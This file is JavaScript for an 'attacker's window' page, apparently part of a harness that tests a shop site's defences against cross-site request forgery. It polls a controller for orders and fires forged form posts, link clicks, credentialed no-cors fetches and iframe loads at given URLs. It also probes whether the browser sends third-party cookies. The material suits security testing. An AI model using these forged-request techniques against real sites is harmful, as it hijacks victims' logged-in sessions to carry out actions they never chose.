// The attacker's window: it asks what to do next, and does just that.
const item = 'a thing you never wanted'
const pause = (ms) => new Promise((done) => setTimeout(done, ms))

function element(name, properties) {
  const made = Object.assign(document.createElement(name), properties)
  document.body.append(made)
  return made
}

// Whether this browser lets what another site embeds have its cookies: a page of the shop's says so in a frame, for
// nobody else is told. An older browser does not say.
async function thirdParty() {
  const { embedded } = document.documentElement.dataset
  const said = new Promise((done) => {
    addEventListener('message', ({ origin, data }) => {
      if (origin === new URL(embedded).origin) done(typeof data === 'boolean' ? data : null)
    })
  })
  const frame = element('iframe', { src: embedded, hidden: true })
  const answer = await Promise.race([said, pause(3000)])
  frame.remove()
  return answer ?? null
}

// Each returns how long to wait before asking again. What would take the whole window along is answered with 204, so
// that the window stays.
const attacks = {
  'form-post'(url) {
    const form = element('form', { method: 'post', action: url, hidden: true })
    form.append(Object.assign(document.createElement('input'), { name: 'item', value: item }))
    form.submit()
    return 200
  },
  link(url) {
    element('a', { href: url, hidden: true }).click()
    return 200
  },
  async fetch(url) {
    const body = new URLSearchParams({ item })
    // What is answered cannot be read from here, and need not be.
    await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
    return 0
  },
  frame(url) {
    for (const old of document.querySelectorAll('iframe')) old.remove()
    element('iframe', { src: url, width: 300, height: 150 })
    return 0
  },
}

const asking = {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ third_party: await thirdParty() }),
}

async function next() {
  const response = await fetch('next', asking)
  if (response.status === 204) return 0
  if (!response.ok) return 3000
  const order = await response.json()
  if (order.do === 'close') {
    window.close()
    return 3000
  }
  return attacks[order.attack](order.url)
}

for (;;) await pause(await next().catch(() => 1000))
